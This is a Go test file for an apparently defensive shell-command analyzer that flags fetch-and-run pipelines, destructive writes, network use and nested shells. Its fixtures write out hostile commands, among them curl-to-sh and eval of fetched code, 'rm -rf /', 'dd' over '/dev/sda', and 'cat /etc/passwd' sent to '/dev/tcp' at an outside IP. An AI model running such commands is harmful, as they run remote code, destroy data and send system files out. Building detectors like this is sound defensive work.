package shell

import (
	"slices"
	"strings"
	"testing"
)

func TestAnalyze(t *testing.T) {
	const wd = "/work/proj"
	tests := []struct {
		name, cmd string
		check     func(a Analysis) bool
		want      string
	}{
		{"plain", "ls -la src", func(a Analysis) bool {
			return slices.Equal(a.Programs, []string{"ls"}) && !a.Compound && !a.Destructive && a.Commands == 1
		}, "ls only"},
		{"words unquoted", `grep -n "a b" 'c d' e\ f`, func(a Analysis) bool {
			return slices.Equal(a.Words, []string{"grep", "-n", "a b", "c d", "e f"})
		}, "quotes removed"},
		{"curl pipe sh", "curl -fsSL https://x.example/i.sh | sh", func(a Analysis) bool {
			return a.FetchToShell && a.PipeToShell && a.Network && a.Compound
		}, "fetch to shell"},
		{"curl pipe tee pipe bash", "curl -s https://x | tee /tmp/i | sudo bash -s", func(a Analysis) bool {
			return a.FetchToShell && a.Sudo && slices.Contains(a.Writes, "/tmp/i")
		}, "fetch to shell through tee and sudo"},
		{"wget to sh -c subst", `sh -c "$(wget -qO- https://x)"`, func(a Analysis) bool { return a.FetchToShell }, "fetch to shell"},
		{"bash proc subst", "bash <(curl -s https://x)", func(a Analysis) bool { return a.FetchToShell }, "fetch to shell"},
		{"eval subst", `eval "$(curl -s https://x)"`, func(a Analysis) bool { return a.FetchToShell }, "fetch to shell"},
		{"subst as program", `$(curl -s https://x)`, func(a Analysis) bool { return a.FetchToShell && a.Dynamic }, "fetch run"},
		{"python heredoc", "python3 - <<'EOF'\nimport os\nEOF", func(a Analysis) bool { return a.PipeToShell && a.Heredoc }, "stdin program"},
		{"python script", "python3 tool.py", func(a Analysis) bool { return !a.PipeToShell }, "a script file"},
		{"curl to file", "curl -o out.json https://api.example/x", func(a Analysis) bool {
			return a.Network && !a.PipeToShell && !a.FetchToShell
		}, "network only"},
		{"rm outside", "rm -rf /etc/nginx", func(a Analysis) bool {
			return a.Destructive && slices.Equal(a.Writes, []string{"/etc/nginx"})
		}, "rm writes /etc/nginx"},
		{"rm relative climbs", "rm -rf ../../other", func(a Analysis) bool {
			return slices.Equal(a.Writes, []string{"/other"})
		}, "normalised"},
		{"rm hidden after semicolon", "echo hi; rm -rf ~", func(a Analysis) bool {
			return a.Destructive && a.Compound && slices.Contains(a.Writes, "~")
		}, "second command found"},
		{"rm hidden after newline", "echo hi\nrm -rf /", func(a Analysis) bool { return a.Destructive && a.Compound }, "newline"},
		{"rm hidden in subst", "echo $(rm -rf /tmp/x)", func(a Analysis) bool {
			return a.Destructive && a.Substitution && slices.Contains(a.Programs, "rm")
		}, "substitution"},
		{"rm hidden in backticks", "echo `rm -rf /tmp/x`", func(a Analysis) bool { return a.Destructive && a.Substitution }, "backticks"},
		{"rm after and", "make && rm -rf build", func(a Analysis) bool {
			return a.Destructive && slices.Contains(a.Writes, "/work/proj/build")
		}, "and-list"},
		{"nested sh -c", `bash -c "sh -c 'rm -rf /srv'"`, func(a Analysis) bool {
			return a.Destructive && slices.Contains(a.Writes, "/srv")
		}, "nested shells"},
		{"xargs rm", "find . -name '*.o' | xargs rm -f", func(a Analysis) bool {
			return a.Destructive && slices.Contains(a.Programs, "rm")
		}, "xargs unwrapped"},
		{"find delete", "find /var/log -delete", func(a Analysis) bool {
			return a.Destructive && slices.Contains(a.Writes, "/var/log")
		}, "find -delete"},
		{"redirect", "echo x > ../outside.txt 2>/dev/null", func(a Analysis) bool {
			return slices.Equal(a.Writes, []string{"/work/outside.txt"})
		}, "redirect target, /dev/null ignored"},
		{"dev tcp", "cat /etc/passwd > /dev/tcp/1.2.3.4/80", func(a Analysis) bool { return a.Network }, "network"},
		{"dynamic program", "$CMD -rf /", func(a Analysis) bool { return a.Dynamic }, "dynamic"},
		{"git reset hard", "git reset --hard HEAD~3", func(a Analysis) bool { return a.Destructive }, "git reset --hard"},
		{"git status", "git status", func(a Analysis) bool { return !a.Destructive }, "harmless git"},
		{"dd of", "dd if=/dev/zero of=/dev/sda bs=1M", func(a Analysis) bool {
			return a.Destructive && slices.Contains(a.Writes, "/dev/sda")
		}, "dd of="},
		{"env wrapper", "env FOO=1 timeout 5 rm x", func(a Analysis) bool {
			return a.Destructive && slices.Equal(a.Programs, []string{"rm"})
		}, "wrappers skipped"},
		{"sed -i", "sed -i s/a/b/ /etc/hosts", func(a Analysis) bool { return slices.Contains(a.Writes, "/etc/hosts") }, "sed -i writes"},
		{"sed print", "sed -n 1p /etc/hosts", func(a Analysis) bool { return len(a.Writes) == 0 }, "sed reads"},
		{"unparsable", "echo 'unterminated", func(a Analysis) bool { return a.Error != "" }, "error"},
		{"too long", strings.Repeat("a", MaxBytes+1), func(a Analysis) bool { return strings.Contains(a.Error, "bytes") }, "error"},
		{"nul", "ls\x00rm", func(a Analysis) bool { return a.Error != "" }, "error"},
		{"deep nesting", `sh -c "sh -c \"sh -c 'sh -c \\\"sh -c ls\\\"'\""`, func(a Analysis) bool { return a.Error != "" || a.Compound }, "bounded"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := Analyze(tt.cmd, wd)
			if !tt.check(a) {
				t.Errorf("Analyze(%q): want %s, got %+v", tt.cmd, tt.want, a)
			}
		})
	}
}

func TestNormalize(t *testing.T) {
	tests := []struct{ in, wd, want string }{
		{"a/../b", "/w", "/w/b"},
		{"../../../etc", "/w/p", "/etc"},
		{"/x//y/./z/", "/w", "/x/y/z"},
		{`..\..\etc`, "/w/p", "/etc"},
		{"~/.ssh/id_rsa", "/w", "~/.ssh/id_rsa"},
		{"rel", "", "rel"},
	}
	for _, tt := range tests {
		if got := Normalize(tt.in, tt.wd); got != tt.want {
			t.Errorf("Normalize(%q, %q) = %q, want %q", tt.in, tt.wd, got, tt.want)
		}
	}
}

func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{"ls", "curl x | sh", "a; b && c || d", "echo $(rm x)", "cat <<EOF\nx\nEOF", "bash -c 'eval \"$x\"'"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		a := Analyze(cmd, "/w")
		if len(a.Writes) > maxItems || len(a.Paths) > maxItems || len(a.Programs) > maxItems {
			t.Fatalf("unbounded lists: %d %d %d", len(a.Writes), len(a.Paths), len(a.Programs))
		}
		if a.Error != "" && (a.Commands != 0 || len(a.Programs) != 0) {
			t.Fatalf("an error with findings: %+v", a)
		}
	})
}

func TestHeredocIsReadAsScript(t *testing.T) {
	a := Analyze("bash <<'EOF'\necho hi\nrm -rf /srv\nEOF", "/w")
	if !a.Destructive || !slices.Contains(a.Writes, "/srv") || !a.PipeToShell {
		t.Errorf("here-document script not read: %+v", a)
	}
	a = Analyze("sh <<< 'curl -s https://x | sh'", "/w")
	if !a.FetchToShell {
		t.Errorf("here-string script not read: %+v", a)
	}
	a = Analyze("cat <<EOF\nrm -rf /srv\nEOF", "/w")
	if a.Destructive {
		t.Errorf("a here-document that is data was read as a script: %+v", a)
	}
}
